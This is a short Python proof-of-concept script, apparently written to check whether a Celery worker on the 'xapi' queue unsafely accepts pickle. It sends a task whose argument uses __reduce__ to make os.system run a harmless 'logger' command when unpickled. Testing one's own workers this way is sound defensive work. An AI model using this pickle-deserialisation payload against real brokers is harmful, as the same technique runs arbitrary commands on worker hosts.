"""Puts a pickle-serialised task on queue `xapi`, as someone holding the broker password
could: when unpickled, its argument runs `logger -t xapi-pickle-executed TOKEN`. A worker that
accepts only JSON refuses it unread; the token in the worker host's journal would prove
otherwise.

    python pickle_attack.py TOKEN
"""

from __future__ import annotations

import os
import sys

from celery import Celery
from pod.custom import settings_local


class Payload:
    def __init__(self, token: str) -> None:
        self.token = token

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, (f"logger -t xapi-pickle-executed {self.token}",))


app = Celery("attacker", broker=settings_local.XAPI_CELERY_BROKER_URL)
app.conf.update(task_serializer="pickle", accept_content=["pickle"])
app.send_task(
    "pod.xapi.xapi_tasks.send_xapi_statement_task", args=[Payload(sys.argv[1])], queue="xapi"
)
print("sent")
